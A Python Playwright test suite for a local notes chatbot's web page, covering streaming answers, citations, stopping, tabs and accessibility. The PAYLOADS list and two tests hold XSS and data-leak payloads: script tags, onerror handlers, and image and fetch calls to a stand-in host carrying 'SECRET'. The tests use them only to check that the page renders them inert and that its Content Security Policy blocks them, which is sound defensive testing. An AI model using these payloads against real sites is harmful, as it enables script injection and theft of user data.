"""The page in Chromium, over a bot whose every word is known."""

from __future__ import annotations

import time
from collections.abc import Callable
from contextlib import closing
from dataclasses import replace
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from notebot.errors import IndexMissing, ModelMissing, ModelUnreachable
from notebot.events import Done, Draft, Found
from notebot.types import Chunk, Citation, NoteLine, Passage, Sentence, Status
from page_steps import CONTRAST, WIDER, ask, drafting, settled, wait_until

pytestmark = [
    pytest.mark.browser,
    pytest.mark.filterwarnings("ignore::pandas.errors.Pandas4Warning"),  # how Gradio keeps its statistics, not ours to mend
]

PAYLOADS = [
    "<img src=https://canary.invalid/?q=SECRET onerror=\"window.owned=1;alert(1)\">",
    "<script>window.owned=1;alert(1)</script>",
    "![x](https://canary.invalid/?q=SECRET)",
    "<svg onload=\"window.owned=1\"><image href=https://canary.invalid/x></svg>",
    "<style>body{background:url(https://canary.invalid/s)}</style><video poster=https://canary.invalid/v autoplay></video>",
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe><form action=https://canary.invalid><button>x</button></form>",
    "\" onmouseover=\"window.owned=1\" x=\"${window.owned=1} {{constructor.constructor('window.owned=1')()}}",
]  # fmt: skip


def test_answer_streams_settles_and_leads_to_its_sources(
    visit: Callable[..., Page], serve_bot: Callable[..., Any], scripted: ModuleType, shots: Path
) -> None:
    bot, address = serve_bot(scripted.story(0.15))
    page = visit(address)
    expect(page.locator("#facts")).to_have_text("scripted (test)runs on this machine1 note in 74 passages")
    page.get_by_role("button", name="What is data mining?").click()
    page.wait_for_function("document.querySelector('#now .draft')?.textContent.includes('Data mining is')")
    expect(page.locator("#now .stage")).to_contain_text("Writing")
    expect(page.locator("#now .places li")).to_have_count(3)
    expect(page.locator("#ask")).to_be_hidden()
    page.screenshot(path=shots / "scripted-streaming.png")
    settled(page)
    expect(page.locator("#now .draft")).to_have_count(0)
    expect(page.locator("#now .chip")).to_have_text(["1", "2", "1"])
    expect(page.locator("#now .unsupported")).to_contain_text("Not in your notes")
    expect(page.locator("#now .source mark").first).to_have_text(
        "Semi-automatic or automatic analysis of massive quantities of data"
    )
    expect(page.locator("#now .byline")).to_contain_text("Answered by scripted (test)")
    assert bot.asked == [("What is data mining?", ())]


def test_notes_and_pages_are_told_apart_and_a_page_opens_at_the_words(
    visit: Callable[..., Page], serve_bot: Callable[..., Any], scripted: ModuleType, shots: Path
) -> None:
    _, address = serve_bot(scripted.page_story())
    page = visit(address)
    ask(page, "What is a feature store?")
    settled(page)
    expect(page.locator("#now .source .badge")).to_have_text(["page", "page", "last good copy of 2026-09-01", "note"])
    link = page.locator("#now .source a").first
    expect(link).to_have_text("What is a Feature Store in ML, and Do I Need One? (qwak.com)")
    assert (link.get_attribute("href") or "").startswith("https://www.qwak.com/post/what-is-a-feature-store#:~:text=A%20feature")
    assert (link.get_attribute("target"), link.get_attribute("rel")) == ("_blank", "noopener noreferrer nofollow")
    expect(page.locator("#now .origin").first).to_have_text("fetched 2026-11-24linked from notes.md line 59")
    expect(page.locator("#now .notice")).to_contain_text("still being built")
    page.locator("#now details summary").last.click()
    page.screenshot(path=shots / "scripted-pages.png", full_page=True)
    assert page.evaluate(CONTRAST) == []


@pytest.mark.parametrize("way", ["button", "escape"])
def test_stop_stops_the_model_within_a_second(
    visit: Callable[..., Page], serve_bot: Callable[..., Any], scripted: ModuleType, way: str
) -> None:
    bot, address = serve_bot(scripted.story(0.1))
    page = visit(address)
    for number in (1, 2, 3):  # also a second and a third time: stopping must leave the page fit to ask again
        ask(page, f"Question {number}?")
        drafting(page)
        assert bot.running == 1
        begin = time.monotonic()
        if way == "button":
            page.get_by_role("button", name="Stop").click()
        else:
            page.keyboard.press("Escape")
        wait_until(lambda: bot.running == 0, page, 1)
        expect(page.locator("#now .notice")).to_contain_text("This answer was stopped")
        assert bot.closed_at[-1] - begin < 1
        expect(page.locator("#now .draft")).to_have_count(0)
    assert len(bot.asked) == 3


def test_who_asks_before_the_page_is_through_keeps_question_and_answer(
    visit: Callable[..., Page], serve_bot: Callable[..., Any], scripted: ModuleType
) -> None:
    def slow(count: int = 3) -> list[str]:
        time.sleep(3)
        return ["What is late?"] * count

    _, address = serve_bot(scripted.story(0), examples=slow)
    page = visit(address)
    ask(page, "Who is early?")
    settled(page)
    expect(page.locator("#welcome")).to_contain_text("What is late?", timeout=20_000)
    settled(page)
    expect(page.locator("#now .question")).to_have_text("Who is early?")


def test_closing_the_tab_stops_the_model(visit: Callable[..., Page], serve_bot: Callable[..., Any], scripted: ModuleType) -> None:
    bot, address = serve_bot([*scripted.story(0.1)[:-2], *[0.1, Draft("on and on ")] * 300])
    watcher, page = visit(address), visit(address)
    ask(page, "Still there?")
    drafting(page)
    page.close()
    wait_until(lambda: bot.running == 0, watcher, 5)


def test_tabs_neither_mix_nor_wait(visit: Callable[..., Page], serve_bot: Callable[..., Any], scripted: ModuleType) -> None:
    bot, address = serve_bot(scripted.story(0.05))
    first, second = visit(address), visit(address)
    ask(first, "From the first?")
    ask(second, "From the second?")
    wait_until(lambda: bot.running == 2, first, 2)
    first.keyboard.press("Escape")
    expect(first.locator("#now .notice")).to_contain_text("This answer was stopped")
    settled(second)
    expect(second.locator("#now .byline")).to_be_visible()
    expect(first.locator(".question")).to_have_text(["From the first?"])
    expect(second.locator(".question")).to_have_text(["From the second?"])
    assert [history for _, history in bot.asked] == [(), ()]


def test_conversation_goes_on(visit: Callable[..., Page], serve_bot: Callable[..., Any], scripted: ModuleType) -> None:
    bot, address = serve_bot(scripted.story())
    page = visit(address)
    for number in (1, 2, 3):
        ask(page, f"Question {number}?")
        settled(page)
    expect(page.locator(".question")).to_have_text(["Question 1?", "Question 2?", "Question 3?"])
    expect(page.locator("#now .question")).to_be_in_viewport()
    # It scrolls there smoothly, which takes its time.
    page.wait_for_function("document.querySelector('#now .question').getBoundingClientRect().top < 120", timeout=5_000)
    assert [turn.role for turn in bot.asked[-1][1]] == ["user", "assistant"] * 2
    page.locator("#earlier .chip").first.click()
    expect(page.locator("#panel mark").first).to_be_in_viewport()


def test_keyboard(visit: Callable[..., Page], serve_bot: Callable[..., Any], scripted: ModuleType) -> None:
    bot, address = serve_bot(scripted.story())
    page = visit(address)
    expect(page.locator("#question textarea")).to_be_focused()
    page.keyboard.type("first line")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("second line")
    page.keyboard.press("Enter")
    settled(page)
    assert bot.asked == [("first line\nsecond line", ())]
    expect(page.locator("#question textarea")).to_have_value("")
    page.keyboard.press("Tab")
    expect(page.locator("#ask")).to_be_focused()
    assert page.evaluate("getComputedStyle(document.activeElement).outlineWidth") == "3px"
    page.keyboard.press("Enter")  # an empty question asks nothing
    page.wait_for_timeout(300)
    assert len(bot.asked) == 1


def test_payloads_stay_text(visit: Callable[..., Page], serve_bot: Callable[..., Any], scripted: ModuleType) -> None:
    payload = " ".join(PAYLOADS)
    chunk = Chunk("c", payload, payload, (payload,), f"# h\n{payload}\n", 1, 2, False, ())
    place = Citation(
        "c", payload, (payload,), 2, 2, payload, 4, 4 + len(payload), url=payload, linked_from=(NoteLine(payload, 1),)
    )
    sentences = (Sentence(payload, True, 1.0, (place,)), Sentence(payload, False, 0.0, (), payload))
    passages = (Passage(chunk, 1, 1), Passage(replace(chunk, id="d"), 1, 1))
    done = replace(scripted.answer(Status.PARTIAL, sentences, text=payload, notice=payload), passages=passages, model=payload)
    halves = [Draft(payload[at : at + 7]) for at in range(0, len(payload), 7)]
    bot, address = serve_bot(
        [Found(passages), *halves, Done(done)], examples=lambda count=3: [payload], model_name=lambda: payload
    )
    page = visit(address)
    expect(page.locator("#facts")).to_contain_text("<script>")
    ask(page, payload)
    expect(page.locator("#now .byline")).to_be_visible()
    page.locator("#now .chip").first.hover()
    bot.script = [ModelUnreachable(payload)]
    ask(page, "And an error?")
    expect(page.locator("#now .trouble")).to_contain_text("<script>")
    assert page.evaluate("window.owned") is None
    assert page.locator("main :is(img, video, iframe, form:not([method=dialog]), style, image, script)").count() == 0


def test_policy_of_the_page_is_a_second_wall(browser: Any, serve_bot: Callable[..., Any]) -> None:
    _, address = serve_bot([])
    page = browser.new_page()  # not `visit`: here things are meant to go wrong, and to be stopped
    refused: list[str] = []
    page.on("console", lambda message: refused.append(message.text))
    page.goto(address)
    page.wait_for_selector("#question textarea")
    page.evaluate(
        """() => {
          document.body.insertAdjacentHTML("beforeend", "<img src=x: onerror='window.owned=1'>");
          document.body.insertAdjacentHTML("beforeend", "<a id=bad href='javascript:window.owned=1'>x</a>");
          document.getElementById("bad").click();
          new Image().src = "https://canary.invalid/i";
        }"""
    )
    gone = page.evaluate("fetch('https://canary.invalid/f').then(() => 'sent', () => 'refused')")
    page.wait_for_timeout(300)
    assert page.evaluate("window.owned") is None
    assert gone == "refused"
    assert sum("Content Security Policy" in text for text in refused) >= 4
    page.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_shape_is_legible(
    visit: Callable[..., Page], serve_bot: Callable[..., Any], scripted: ModuleType, shots: Path, scheme: str
) -> None:
    quotes = (replace(scripted.FIRST, text="Semi-automatic or automatic analysis"), scripted.THIRD)
    shapes = {
        "What is data mining?": scripted.story(),
        "Quoted?": [Done(scripted.answer(Status.QUOTED, quotes, notice="The model's own words did not pass the check."))],
        "Silent?": [Done(scripted.answer(Status.NOT_IN_NOTES, ()))],
        "GraphRAG?": [Done(scripted.answer(Status.STUB, ()))],
        "Down?": [ModelUnreachable("Ollama does not answer. Run: `ollama serve`")],
        "Still writing?": [Found(scripted.PASSAGES), 0.1, Draft("Data mining is the"), 4.0],
    }
    bot, address = serve_bot([])
    page = visit(address, color_scheme=scheme)
    page.wait_for_selector("#welcome .example")
    assert page.evaluate(CONTRAST) == []
    page.screenshot(path=shots / f"scripted-empty-{scheme}.png")
    for question, script in shapes.items():
        bot.script = script
        ask(page, question)
        page.wait_for_selector("#now .draft" if "writing" in question else "#now .settled")
    assert page.evaluate(CONTRAST) == []
    page.screenshot(path=shots / f"scripted-shapes-{scheme}.png", full_page=True)
    page.set_viewport_size({"width": 360, "height": 740})
    assert page.evaluate(WIDER) == 0
    page.screenshot(path=shots / f"scripted-phone-{scheme}.png", full_page=True)


def test_first_run_says_what_to_do(visit: Callable[..., Page], serve_bot: Callable[..., Any], shots: Path) -> None:
    missing = IndexMissing("There is no index yet. Run `notebot ingest`, then reload this page.")
    _, address = serve_bot([missing], missing=missing, no_model=ModelMissing("No chat model is installed. Run `make setup`."))
    page = visit(address, viewport={"width": 360, "height": 740})
    expect(page.locator("#welcome .trouble")).to_contain_text("Your notes have not been read yet")
    expect(page.locator("#welcome a.action")).to_have_attribute("href", "/notes")
    expect(page.locator("#facts")).to_contain_text("Run make setup")
    expect(page.locator("#welcome button")).to_have_count(0)
    page.screenshot(path=shots / "first-run.png")
    ask(page, "Anything?")
    expect(page.locator("#now .trouble")).to_contain_text("Your notes have not been read yet")
    expect(page.locator(".toast-body")).to_have_count(0)


def test_a_history_that_was_damaged_is_told_until_the_first_question(browser: Browser, scripted: ModuleType, shots: Path) -> None:
    from notebot.web.host import serve

    bot = scripted.ScriptedBot(scripted.story())
    (bot.settings.data / "history.db").write_bytes(b"no database" * 1000)
    with serve(bot, port=0) as served, closing(browser.new_context(viewport={"width": 360, "height": 740})) as context:
        page = context.new_page()
        page.goto(served.address)
        expect(page.locator("#welcome .lost")).to_contain_text("The history of conversations was damaged", timeout=15_000)
        page.wait_for_selector("#welcome .example")
        assert page.evaluate(WIDER) == 0
        page.screenshot(path=shots / "damaged.png")
        ask(page, "What is data mining?")
        settled(page)
        expect(page.locator(".lost")).to_be_hidden()
